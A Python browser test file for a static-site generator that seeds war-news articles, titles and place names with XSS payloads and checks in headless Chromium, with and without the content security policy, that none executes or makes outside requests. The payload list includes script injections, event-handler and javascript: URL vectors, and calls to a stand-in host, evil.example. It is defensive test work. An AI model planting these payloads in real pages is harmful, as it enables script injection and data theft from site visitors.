"""Nothing from an article runs: script-injection payloads in text, Markdown and HTML
articles, titles, sources and place names are ingested, built, and every page is opened in
headless Chromium. No dialog opens, no injected script runs, no request leaves the page.

Every page is opened twice: as published (with its Content-Security-Policy), and with the
policy switched off, so that escaping alone is shown to hold and the policy is a second
line of defence rather than the only one.
"""

from __future__ import annotations

import html as htmllib
import json
import re
from pathlib import Path

import pytest

from chronicle.cli import main
from tests.e2e.browser import launch, serve

pytestmark = pytest.mark.browser

# Each payload, if it ran, would open a dialog, set window.__xss, or call evil.example.
JS = "alert(1);window.__xss=1;fetch('https://evil.example/x')"
PAYLOADS = [
    f"<script>{JS}</script>",
    f"</title><script>{JS}</script>",
    f"</script><script>{JS}</script>",
    f'"><img src=x onerror="{JS}">',
    f'\'><svg onload="{JS}"></svg>',
    f"<svg><script>{JS}</script></svg>",
    f'<iframe src="javascript:{JS}"></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    f'<a href="javascript:{JS}">click</a>',
    f'<body onload="{JS}">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{JS}">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "{{ 7*7 }} {% raw %}",
]
MARKDOWN_LINKS = [
    f"[js](javascript:{JS.replace(' ', '')})",
    "[js2](JaVaScRiPt:alert(1))",
    "[js3](  javascript:alert(1))",
    "[js4](jav&#x09;ascript:alert(1))",
    "[js5](&#106;avascript:alert(1))",
    "[vb](vbscript:msgbox(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[ref][evil]\n\n[evil]: javascript:alert(1)",
]
TEXT = " ".join(PAYLOADS)
TITLE = "Mosul <script>alert('title')</script></title><svg onload=alert(1)> \"quoted\" 'single'"


def write_articles(folder: Path) -> None:
    folder.mkdir()
    paragraphs = "\n\n".join(
        f"Iraqi forces entered Zorbatown near Mosul on Friday, officials said {p} in a "
        f"statement to reporters."
        for p in PAYLOADS
    )
    (folder / "evil.txt").write_text(f"{TITLE}\n\n{paragraphs}\n", encoding="utf-8")
    links = "\n\n".join(
        f"Fighting near Mosul continued on Saturday, see {link} for more."
        for link in MARKDOWN_LINKS
    )
    (folder / "evil.md").write_text(
        "---\n"
        f"title: {json.dumps(TITLE)}\n"
        "date: 2017-02-25\n"
        f"url: {json.dumps('javascript:' + JS)}\n"
        f"outlet: {json.dumps('<img src=x onerror=alert(1)>')}\n"
        "---\n\n"
        f"Troops reached Zorbatown on Sunday after heavy fighting, the army said. {TEXT}\n\n"
        f'<div onmouseover="{JS}">raw html block</div>\n\n'
        f"<script>{JS}</script>\n\n{links}\n",
        encoding="utf-8",
    )
    escaped = TEXT.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    (folder / "evil.html").write_text(
        "<!doctype html><html><head>"
        f"<title>Dam near Mosul attacked &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>"
        f'<meta property="og:title" content="Dam attacked &lt;/title&gt;&lt;script&gt;alert(2)&lt;/script&gt;">'
        f'<meta property="og:url" content="javascript:alert(3)">'
        '<meta property="article:published_time" content="2017-02-26">'
        f'<script>{JS}</script></head><body onload="{JS}"><article>'
        "<h1>Dam attacked &lt;script&gt;alert(4)&lt;/script&gt;</h1>"
        "<p>Militants attacked the dam near Mosul on Saturday morning and were repelled after "
        f"hours of fighting, a military spokesman said. {escaped}</p>"
        f'<p><img src=x onerror="{JS}">Engineers said the structure of the dam in '
        f'Zorbatown was not damaged, and <a href="javascript:{JS}">the water level</a> '
        "remained stable throughout the day.</p>"
        f'<iframe src="javascript:{JS}"></iframe></article></body></html>',
        encoding="utf-8",
    )


def write_evil_place(root: Path) -> None:
    (root / "content" / "places" / "zorbatown.md").write_text(
        "---\n"
        f"name: {json.dumps('Zorba<script>alert(1)</script><img src=x onerror=alert(2)>')}\n"
        "kind: town\n"
        "aliases: [Zorbatown]\n"
        "parent: null\n"
        "country: IQ\n"
        "lat: 36.2\n"
        "lon: 43.0\n"
        "geonames: null\n"
        "---\n\n"
        f"An editor's description. {TEXT} [more](javascript:alert(1)) <script>{JS}</script>\n",
        encoding="utf-8",
    )


# Any of these in the built pages means a payload survived as markup.
DOM_PROBE = """() => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.attributes) {
      const v = a.value.replace(/[\\u0000-\\u0020]/g, '').toLowerCase();
      if (a.name.startsWith('on')) bad.push(el.tagName + ' ' + a.name);
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc', 'data'].includes(a.name)
          && /^(javascript|vbscript|data):/.test(v)) bad.push(el.tagName + ' ' + a.name + '=' + v);
    }
    if (['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'FRAME'].includes(el.tagName)) bad.push(el.tagName);
    if (el.tagName === 'META' && (el.getAttribute('http-equiv') || '').toLowerCase() === 'refresh')
      bad.push('meta refresh');
    if (el.tagName === 'SCRIPT' && (!el.src || !el.src.startsWith(location.origin) || el.text.trim()))
      bad.push('script ' + (el.src || el.text.slice(0, 40)));
  }
  if (window.__xss) bad.push('window.__xss set');
  return bad;
}"""


def test_no_payload_runs_in_any_page(tmp_path: Path) -> None:
    root = tmp_path / "war"
    assert main(["init", str(root)]) == 0
    write_evil_place(root)
    write_articles(tmp_path / "articles")
    assert (
        main(
            ["--root", str(root), "ingest", str(tmp_path / "articles"), "--published", "2017-02-27"]
        )
        == 0
    )
    entries = sorted((root / "content" / "entries").glob("*.md"))
    assert len(entries) == 3
    # the place with the payload name is on the site, named by an entry
    assert any("zorbatown" in path.read_text() for path in entries)
    assert main(["--root", str(root), "build"]) == 0
    site = root / "site"
    pages = sorted(p.relative_to(site).as_posix() for p in site.rglob("*.html"))
    assert "places/zorbatown.html" in pages and len(pages) >= 10

    with launch() as browser, serve(site) as base:
        for bypass_csp in (False, True):
            context = browser.new_context(bypass_csp=bypass_csp, java_script_enabled=True)
            dialogs: list[str] = []
            left: list[str] = []
            blocked_scripts: list[str] = []

            def leave(route, request, left=left) -> None:
                # (Playwright passes (route, request) to a two-parameter handler.)
                left.append(request.url)
                route.abort()

            # Only requests to anywhere but the local server are intercepted (and failed).
            context.route(re.compile(rf"^(?!{re.escape(base)})"), leave)
            context.set_default_timeout(20_000)
            page = context.new_page()
            page.on("dialog", lambda d, dialogs=dialogs: (dialogs.append(d.message), d.dismiss()))
            page.on(
                "console",
                lambda m, b=blocked_scripts: (
                    b.append(m.text)
                    if "Content Security Policy" in m.text and "script" in m.text
                    else None
                ),
            )
            page.goto(base + "index.html")
            page.evaluate("fetch('https://evil.example/probe').catch(() => 0)")
            page.wait_for_timeout(50)
            # the test sees a request leave (made by the test itself, not by the site);
            # with the policy on, it never even starts
            assert left == (["https://evil.example/probe"] if bypass_csp else []), left
            left.clear()
            for path in pages:
                page.goto(base + path, wait_until="load")
                problems = page.evaluate(DOM_PROBE)
                assert problems == [], (path, bypass_csp, problems)
                assert page.url.startswith(base), (path, page.url)  # no redirect away
            page.wait_for_timeout(100)
            assert dialogs == [], (bypass_csp, dialogs)
            assert blocked_scripts == [], blocked_scripts
            # images to other hosts are legitimate Markdown, but the policy keeps them home
            if not bypass_csp:
                assert left == [], left
            else:
                assert all(not url.startswith("https://evil.example/x") for url in left), left
            context.close()

    # and the payloads are on the pages, as text
    entry_pages = [
        site / p for p in pages if p.startswith("entries/") and p != "entries/index.html"
    ]
    assert any("&lt;script&gt;" in p.read_text() for p in entry_pages)
    place_page = (site / "places" / "zorbatown.html").read_text()
    assert "Zorba&lt;script&gt;" in place_page
    assert "Content-Security-Policy" in place_page


@pytest.mark.parametrize("path", ["index.html", "entries/index.html"])
def test_pages_carry_a_strict_content_security_policy(tmp_path: Path, path: str) -> None:
    from tests.conftest import write_content

    write_content(tmp_path)
    assert main(["--root", str(tmp_path), "build"]) == 0
    page = (tmp_path / "site" / path).read_text()
    [policy] = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    directives = dict(
        (d.strip().split(" ", 1) + [""])[:2]
        for d in htmllib.unescape(policy).split(";")
        if d.strip()
    )
    assert directives["script-src"].split()[0] == "'self'"
    assert "'unsafe-inline'" not in directives["script-src"]
    assert "'unsafe-eval'" not in directives["script-src"]
    assert directives["object-src"] == "'none'" and directives["base-uri"] == "'none'"
    assert directives["default-src"] == "'self'"
